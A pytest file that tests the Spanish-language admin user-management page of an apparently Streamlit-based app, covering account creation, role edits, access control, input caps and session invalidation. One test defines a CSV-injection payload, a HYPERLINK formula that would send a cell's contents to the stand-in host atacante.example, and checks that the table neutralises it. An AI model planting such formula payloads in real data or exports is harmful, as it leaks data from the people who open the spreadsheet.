import pytest

from core import users as core_users
from tests.pages.conftest import goto, login


def test_admin_creates_a_user_and_changes_the_role(demo_data, users):
    at = goto(login(users["admin"].email), "admin.py")
    assert [t.value for t in at.title] == ["Usuarios"]
    at.text_input(key="nu_nombre").input("Nora Nueva")
    at.text_input(key="nu_correo").input("nora@pruebas.devcompras.mx")
    at.selectbox(key="nu_rol").select("user")
    at.text_input(key="nu_clave").input("Segura1234")
    next(b for b in at.button if b.label == "Crear").click().run()
    assert [s.value for s in at.success] == ["Cuenta creada para nora@pruebas.devcompras.mx."]
    assert core_users.get_user("nora@pruebas.devcompras.mx").role == "user"

    nora = core_users.get_user("nora@pruebas.devcompras.mx")
    at.selectbox(key="edit_cuenta").select("nora@pruebas.devcompras.mx").run()
    at.selectbox(key=f"edit_rol_{nora.id}").select("manager")
    at.toggle(key=f"edit_activa_{nora.id}").set_value(False)
    at.button(key="edit_guardar").click().run()
    assert [s.value for s in at.success] == ["Cambios guardados para nora@pruebas.devcompras.mx."]
    assert core_users.get_user("nora@pruebas.devcompras.mx") is None  # deactivated


def test_switching_account_shows_its_own_role_and_saving_changes_nothing(demo_data, users):
    """The form must not carry one account's role over to the next one selected."""
    at = goto(login(users["admin"].email), "admin.py")
    at.selectbox(key="edit_cuenta").select(users["manager"].email).run()
    at.selectbox(key="edit_cuenta").select(users["user"].email).run()
    assert at.selectbox(key=f"edit_rol_{users['user'].id}").value == "user"
    at.button(key="edit_guardar").click().run()
    assert core_users.get_user(users["user"].email).role == "user"
    assert core_users.get_user(users["manager"].email).role == "manager"


def test_new_user_form_defaults_to_the_least_privileged_role(demo_data, users):
    at = goto(login(users["admin"].email), "admin.py")
    assert at.selectbox(key="nu_rol").value == "viewer"


def test_admin_form_shows_validation_in_spanish(demo_data, users):
    at = goto(login(users["admin"].email), "admin.py")
    at.text_input(key="nu_nombre").input("Sin correo")
    at.text_input(key="nu_correo").input("no-es-correo")
    at.text_input(key="nu_clave").input("Segura1234")
    next(b for b in at.button if b.label == "Crear").click().run()
    assert [e.value for e in at.error] == ["El correo electrónico no es válido."]


def test_manager_cannot_open_the_users_page(demo_data, users):
    at = login(users["manager"].email)
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        goto(at, "admin.py")  # not even registered in this role's navigation
    with pytest.raises(core_users.PermissionDenied):
        core_users.list_users(users["manager"])


def test_users_table_neutralises_names_a_spreadsheet_would_run(demo_data, users):
    """A sign-up name reaches the table, and the table's toolbar downloads it as CSV for Excel."""
    hostile = '=HYPERLINK("http://atacante.example/?d="&A1,"Ver")'
    core_users.register(email="formula@pruebas.devcompras.mx", name=hostile, password="segura123")
    at = goto(login(users["admin"].email), "admin.py")
    table = at.dataframe[0].value
    shown = table.loc[table["Correo"] == "formula@pruebas.devcompras.mx", "Nombre"].tolist()
    assert shown == ["'" + hostile]
    assert not table["Nombre"].astype(str).str.match(r"[=+\-@\t\r]").any()


def test_admin_form_caps_its_inputs(demo_data, users):
    at = goto(login(users["admin"].email), "admin.py")
    caps = {key: at.text_input(key=key).max_chars for key in ("nu_nombre", "nu_correo", "nu_clave")}
    assert caps == {"nu_nombre": 255, "nu_correo": 254, "nu_clave": 72}


def test_changing_a_role_ends_that_accounts_sessions(demo_data, users):
    account = core_users.create_user(None, email="rol-cambia@pruebas.devcompras.mx", name="Rol", role="viewer",
                                     password="Correcta123")
    theirs = login(account.email, "Correcta123")
    assert [t.value for t in theirs.title] == ["Tablero"]
    at = goto(login(users["admin"].email), "admin.py")
    at.selectbox(key="edit_cuenta").select(account.email).run()
    at.selectbox(key=f"edit_rol_{account.id}").select("user")
    at.button(key="edit_guardar").click().run()
    assert [s.value for s in at.success] == [f"Cambios guardados para {account.email}."]
    theirs.run()
    assert theirs.text_input(key="login_email") is not None and not theirs.metric
